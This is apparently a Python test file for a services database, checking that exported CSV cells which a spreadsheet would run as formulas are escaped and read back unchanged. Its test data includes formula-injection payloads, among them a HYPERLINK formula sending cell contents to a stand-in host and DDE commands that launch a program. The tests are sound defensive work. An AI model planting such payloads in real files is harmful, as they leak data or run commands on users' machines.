"""A cell that a spreadsheet would run is written so that it is not, and read back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session

from services_db.entities import Service
from services_db.loading.csv_files import read_file
from services_db.loading.export import export
from services_db.open_referral.tabular import read_tables, write_tables
from services_db.spreadsheet_cells import guarded, unguarded

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Ring us")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
)
STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula):
    assert guarded(formula) == f"'{formula}"
    assert unguarded(guarded(formula)) == formula


@pytest.mark.parametrize("number", ["-1.53", "+44 113 496 0000", "+44 (0)113", "0", "", "'quoted'"])
def test_a_number_and_plain_text_stay(number):
    assert guarded(number) == unguarded(number) == number


@given(st.text(alphabet="'=+-@\t\r\n＝1a .(", max_size=8))
def test_any_text_comes_back_and_none_is_run(text):
    written = guarded(text)
    assert unguarded(written) == text
    assert not written.startswith(STARTS) or not set(written) - set("+-0123456789 .,()")


def test_no_data_file_that_is_exported_has_a_formula(loaded: Engine, tmp_path: Path):
    """Facts that came from a feed, from a service, or by hand."""
    with loaded.begin() as connection:
        connection.execute(update(Service).values(description=FORMULAS[0], fees="@a"))
    with Session(loaded) as session:
        export(session, tmp_path)
    seen = 0
    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if guarded(cell) != cell and cell[0] != "'"] == []
        seen += sum(cell == f"'{FORMULAS[0]}" for cell in cells)
    assert seen > 100, "they were there to be guarded"
    lines, _ = read_file(tmp_path / "services.csv")
    assert FORMULAS[0] in lines[0].values.values(), "and they are read back as they were"


def test_the_open_tables_neither(tmp_path: Path):
    service = {"id": "5f0b39b5-53fa-4a8c-9d2a-0a5d0c6a3d11", "name": FORMULAS[0]}
    write_tables([service], [], tmp_path)
    assert f"'{FORMULAS[0][:10]}" in (tmp_path / "service.csv").read_text(encoding="utf-8")
    assert read_tables(tmp_path, 10**6) == [service]
